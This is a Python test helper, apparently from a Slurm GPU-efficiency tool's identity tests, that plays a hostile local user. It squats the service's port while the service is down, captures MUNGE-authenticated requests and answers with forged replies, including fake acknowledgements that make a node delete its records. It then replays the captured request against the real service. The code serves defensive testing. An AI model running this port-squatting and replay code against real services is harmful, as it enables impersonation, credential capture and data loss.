"""A hostile ordinary user's program, for the tests of the API's identity (test_api_identity.py): it binds the
service's port while the service is down, keeps what a client sends it, and answers as the service would;
later it relays what it kept to the real service and tries to read the answer.

    squatter.py listen HOST:PORT DIR MODE [VICTIM_UID]   one connection: DIR/request.bin holds what came,
                                                          MODE: plain (an unsealed card), sealed (a card
                                                          sealed by this user for the victim), silent,
                                                          ack:NAME,... (a push's acknowledgement, sealed)
    squatter.py relay URL DIR                            DIR/request.bin sent to URL twice; DIR/reply-1.bin,
                                                          reply-2.bin the raw answers, DIR/opened the exit
                                                          status of this user's unmunge of the first one

Run with /usr/bin/python3 as the squatting user; ``slurm_gpueff`` on PYTHONPATH (the attacker has the
product's source, as anyone does), ``GPUEFF_MUNGE_SOCKET`` the host's munged.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys


def read_request(conn: socket.socket) -> bytes:
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = conn.recv(65536)
        if not chunk:
            return data
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    length = next((int(ln.split(b":", 1)[1]) for ln in head.split(b"\r\n") if ln.lower().startswith(b"content-length")),
                  0)
    while len(body) < length:
        chunk = conn.recv(65536)
        if not chunk:
            break
        body += chunk
    return head + b"\r\n\r\n" + body


def envelope_of(request: bytes) -> str:
    for line in request.split(b"\r\n\r\n", 1)[0].split(b"\r\n"):
        if line.lower().startswith(b"authorization: munge "):
            return line.split(b" ", 2)[2].decode().strip()
    return ""


def listen(where: str, out: str, mode: str, victim: int | None) -> None:
    host, _, port = where.rpartition(":")
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((host, int(port)))
    srv.listen(8)
    open(os.path.join(out, "listening"), "w").close()
    conn, _ = srv.accept()
    with conn:
        conn.settimeout(20)
        try:
            got = read_request(conn)
        except OSError:
            got = b""
        with open(os.path.join(out, "request.bin"), "wb") as fh:
            fh.write(got)
        fake = json.dumps({"exit_code": 0, "stdout": "Job ID: 7002 (a card the squatter made up)\n", "stderr": "",
                           "pages": []}).encode()
        if mode.startswith("ack:"):  # a node's push: every record "stored", so that the node deletes them
            fake, mode = json.dumps({"acked": mode[4:].split(",")}).encode(), "sealed"
        headers = ""
        if mode == "sealed" and got:
            from slurm_gpueff.access import sealed

            made = sealed.seal(fake, victim, os.environ.get("GPUEFF_MUNGE_SOCKET", ""), 10,
                               {"re": sealed.digest(envelope_of(got)), "status": 200})
            headers, fake = f"Gpueff-Seal: {made.envelope}\r\n", made.parts
        if mode != "silent" and got:
            conn.sendall(f"HTTP/1.1 200 OK\r\nContent-Length: {len(fake)}\r\n{headers}\r\n".encode() + fake)
    srv.close()


def relay(url: str, out: str) -> None:
    from urllib.parse import urlsplit

    with open(os.path.join(out, "request.bin"), "rb") as fh:
        request = fh.read()
    parts = urlsplit(url)
    for n in (1, 2):  # relayed once, then replayed
        with socket.create_connection((parts.hostname, parts.port), 20) as conn:
            conn.sendall(request)
            reply = b""
            while chunk := conn.recv(65536):
                reply += chunk
        with open(os.path.join(out, f"reply-{n}.bin"), "wb") as fh:
            fh.write(reply)
    with open(os.path.join(out, "reply-1.bin"), "rb") as fh:
        head = fh.read().split(b"\r\n\r\n", 1)[0]
    seal = next((ln.split(b":", 1)[1].strip() for ln in head.split(b"\r\n") if ln.lower().startswith(b"gpueff-seal:")),
                b"")
    p = subprocess.run(["unmunge", "--socket", os.environ.get("GPUEFF_MUNGE_SOCKET", "")], input=seal,
                       capture_output=True)
    with open(os.path.join(out, "opened"), "w") as fh:
        fh.write(f"{p.returncode}\n{p.stdout.decode(errors='replace')}{p.stderr.decode(errors='replace')}")


if __name__ == "__main__":
    if sys.argv[1] == "listen":
        listen(sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]) if len(sys.argv) > 5 else None)
    else:
        relay(sys.argv[2], sys.argv[3])
